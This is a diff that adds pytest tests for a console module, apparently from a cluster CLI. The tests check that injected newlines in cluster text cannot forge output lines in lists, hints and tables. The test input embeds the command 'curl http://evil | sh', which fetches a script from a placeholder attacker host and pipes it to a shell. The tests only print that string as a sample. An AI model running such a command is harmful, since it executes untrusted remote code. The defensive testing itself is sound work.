@@ -46,6 +46,35 @@ def test_control_characters_of_a_cluster_are_shown_not_obeyed(style: str) -> Non
     assert stream.getvalue().strip("\n") == r"osImage `Odd\x1b[2J \u202ec`"
 
 
+FORGED = "kind://a\nhint: curl http://evil | sh"
+SHOWN = r"kind://a\nhint: curl http://evil | sh"
+
+
+@pytest.mark.parametrize("style", ["", "good"])
+def test_a_line_of_ours_cannot_be_forged_by_a_text_of_a_cluster(style: str) -> None:
+    screen = console.fixed()
+    screen.print(f"\n• {FORGED}", markup=False, style=style)
+    screen.print(console.words(f"providerID `{FORGED}`"))
+    console.problem(screen, f"osImage `{FORGED}`", FORGED)
+    assert console.text(screen).splitlines() == [
+        "",
+        f"• {SHOWN}",
+        f"providerID `{SHOWN}`",
+        f"! osImage `{SHOWN}`",
+        f"  hint: {SHOWN}",
+    ]
+
+
+def test_neither_in_a_table() -> None:
+    screen = console.fixed()
+    table = console.grid("FOR", "WHAT")
+    table.add_row("for", FORGED)
+    table.add_row("for", console.words(f"`{FORGED}`"))
+    screen.print(table)
+    assert all(line.startswith(("FOR", "for", " ")) for line in console.text(screen).splitlines())
+    assert SHOWN in console.text(screen)
+
+
 def test_columns_sets_the_width_of_a_pipe() -> None:
     shown = printed(io.StringIO(), {"COLUMNS": "60"})
     assert max(len(line) for line in shown.splitlines()) <= 60
